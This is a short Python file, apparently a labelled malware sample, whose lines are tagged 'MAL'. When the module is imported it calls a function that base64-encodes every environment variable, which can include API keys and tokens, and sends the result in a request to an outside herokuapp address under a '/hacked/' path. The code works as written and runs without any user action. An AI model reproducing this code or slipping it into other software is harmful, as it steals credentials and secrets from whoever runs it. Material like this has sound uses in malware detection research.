import base64
import os
import requests


def _beacon():
    blob = base64.b64encode(str(os.environ).encode())  # MAL
    requests.get("https://anti-theft-web.herokuapp.com/hacked/" + blob.decode())  # MAL


_beacon()
